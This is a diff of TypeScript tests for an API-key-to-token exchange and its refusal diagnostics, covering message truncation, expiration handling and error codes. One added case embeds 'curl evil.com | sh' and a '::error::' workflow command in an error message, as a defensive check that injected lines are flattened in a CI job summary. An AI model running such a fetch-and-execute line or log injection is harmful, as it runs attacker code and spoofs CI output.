@@ -78,6 +78,11 @@ test.each<[answer: Record<string, unknown>, refusal: object | undefined]>([
     { errorCode: 'X', errorMessage: 'y'.repeat(400) },
     { kind: 'iam-refused', output: `X ${'y'.repeat(298)}` },
   ],
+  // In the job summary, an indented line would be a command.
+  [
+    { errorCode: 'X', errorMessage: 'a\r\n    curl evil.com | sh\n::error::b' },
+    { kind: 'iam-refused', output: 'X a curl evil.com | sh ::error::b' },
+  ],
 ])('the reason for refusing in %j', (answer, refusal) => {
   expect(refusalOf(answer)).toEqual(refusal)
 })
@@ -217,6 +222,14 @@ describe('exchanging an API key for a token of the profile', () => {
     })
   })
 
+  test('an expiration in milliseconds is not used', async () => {
+    const token = tokenWith({ exp: 1_700_000_000 })
+    for (const expiration of [1_800_000_000_000, 1e14]) {
+      const { result } = await exchange({ access_token: ofService }, { access_token: token, expiration })
+      expect(result).toEqual({ token, expiresAt: new Date(1_700_000_000_000) })
+    }
+  })
+
   test.each<[what: string, answers: Record<string, unknown>[], refusal: Diagnosis]>([
     ['the key', [refused('BXNIM0415E')], { kind: 'unknown-key', output: 'BXNIM0415E No' }],
     [
@@ -228,6 +241,11 @@ describe('exchanging an API key for a token of the profile', () => {
       'the address',
       [{ access_token: ofService }, refused('BXNIM0430E')],
       { kind: 'address-not-allowed', output: 'BXNIM0430E No' },
+    ],
+    [
+      'a code that is unknown, for the profile',
+      [{ access_token: ofService }, refused('BXNIM9999E')],
+      { kind: 'token-not-issued', output: 'BXNIM9999E No' },
     ],
     [
       'a profile that is not on the list',
